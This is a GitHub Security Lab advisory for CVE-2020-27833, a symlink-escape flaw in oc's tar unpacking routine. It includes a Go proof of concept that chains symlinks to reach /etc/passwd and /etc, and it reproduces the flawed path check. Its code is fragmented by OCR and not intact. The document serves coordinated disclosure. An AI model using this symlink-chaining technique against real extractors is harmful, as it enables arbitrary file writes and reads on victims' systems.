skip to content
Back to
Home Bounties Research Advisories CodeQL Wall of Fame Get Involved Events
January 12, 2021

GHSL-2020-261: Unsafe handling of symbolic links in oc unpacking routine - CVE-2020-27833

GitHub Security Lab

Coordinated Disclosure Timeline


The unsafe handling of symbolic links in an unpacking routine may enable attackers to read and/or write to arbitrary locations outside the designated target folder.Tested Version

Latest commit at the time of reporting (November 27, 2020).


The routine unpackLayer attempts to guard against creating symbolic links that point outside the directory a tar archive is extracted to. However, a malicious tarball first linking subdir/parent to .. (allowed, because subdir/.. falls within the archive root) and then linking subdir/parent/escapes to .. results in a symbolic link pointing to the tarball’s parent directory, contrary to the routine’s goals.

Proof of concept, using a version of unpackLayer tweaked to accept an array of tar headers instead of working from an actual tar archive:

package main

import (


func main() {
  var headers []tar.Header = make([]tar.Header, 4)

  headers[0].Name = "subdir/"
  headers[0].Typeflag = tar.TypeDir

  headers[1].Name = "subdir/parent"
  headers[1].Linkname = ".."
  headers[1].Typeflag = tar.TypeSymlink

  headers[2].Name = "subdir/parent/passwd"
  headers[2].Linkname = "../../etc/passwd"
  headers[2].Typeflag = tar.TypeSymlink

  headers[3].Name = "subdir/parent/etc"
  headers[3].Linkname = "../../etc"
  headers[3].Typeflag = tar.TypeSymlink

  err := unpackLayer("/tmp/extracthere", headers)
  if err != nil {

func unpackLayer(dest string, headers []tar.Header) (err error) {

  // Iterate through the files in the archive.for _, hdr := range headers {

    // Normalize name, for safety and for a simple is-root check
    hdr.Name = filepath.Clean(hdr.Name)

    // Note as these operations are platform specific, so must the slash be.
    if !strings.HasSuffix(hdr.Name, string(os.PathSeparator)) {
      // Not the root directory, ensure that the parent directory exists.
      // This happened in some tests where an image had a tarfile without any
      // parent directories.
      parent := filepath.Dir(hdr.Name)
      parentPath := filepath.Join(dest, parent)

      if _, err := os.Lstat(parentPath); err != nil && os.IsNotExist(err) {
        err = system.MkdirAll(parentPath, 0755)
        if err != nil {
          return err

    path := filepath.Join(dest, hdr.Name)
    rel, err := filepath.Rel(dest, path)
    if err != nil {
      return err

    // Note as these operations are platform specific, so must the slash be.
    if strings.HasPrefix(rel, ".."+string(os.PathSeparator)) {
      return fmt.Errorf("%q is outside of %q", hdr.Name, dest)
    base := filepath.Base(path)

    if strings.HasPrefix(base, "archive.WhiteoutPrefix") {
      // ...
    } else {
      // If path exits we almost always just want to remove and replace it.
      // The only exception is when it is a directory *and* the file from
      // the layer isalso a directory. Then we want to merge them (i.e.
      // just apply the metadata from the layer).
      if fi, err := os.Lstat(path); err == nil {
        if !(fi.IsDir() && hdr.Typeflag == tar.TypeDir) {
          if err :=os.RemoveAll(path); err != nil {
            return err

      srcHdr := hdr

      // Hard links into /.wh..wh.plnk don't work, as we don't extract that directory, so
      // we manually retarget these into the temporary files we extracted them into
      if hdr.Typeflag == tar.TypeLink && strings.HasPrefix(filepath.Clean(hdr.Linkname), "archive.WhiteoutLinkDir") {
        // ...

      if err := createTarFile(path, dest, srcHdr); err != nil {
        returnerr


  return nil

func createTarFile(path, extractDir string, hdr tar.Header) error {

  // ...

  switch hdr.Typeflag {

  case tar.TypeDir:
    // Create directory unless it exists as a directory already.
    // In that case we just want to merge the two
    if fi, err := os.Lstat(path); !(err == nil && fi.IsDir()) {
      if err := os.Mkdir(path, 0755); err != nil {
        return errcase tar.TypeSymlink:
    //   path         -> hdr.Linkname = targetPath
    // e.g. /extractDir/path/to/symlink   -> ../2/file  = /extractDir/path/2/file
    targetPath := filepath.Join(filepath.Dir(path), hdr.Linkname)

    // the reason we don't need to check symlinks in the path (with FollowSymlinkInScope) is because
    // that symlink would first have to be created, which would be caught earlier, at this very check:
    if !strings.HasPrefix(targetPath, extractDir) {
      return fmt.Errorf("invalid symlink %q -> %q", path, hdr.Linkname)
    if err := os.Symlink(hdr.Linkname, path); err != nil {
      return err

    returnfmt.Errorf("unhandled tar header type %d",hdr.Typeflag)

  // ...

  return nil


This issue may lead to arbitrary file write (with same permissions as the program running the unpack operation) if the attacker can control the archive file. Additionally, if the attacker has read access to theunpacked files, he may be able to read arbitrary system files the parent process has permissions to read.




This issue was discovered andreported by GitHub team member @smowton (Chris Smowton).


You can contact the GHSL team at, please include a reference to GHSL-2020-261 in anycommunication regarding this issue.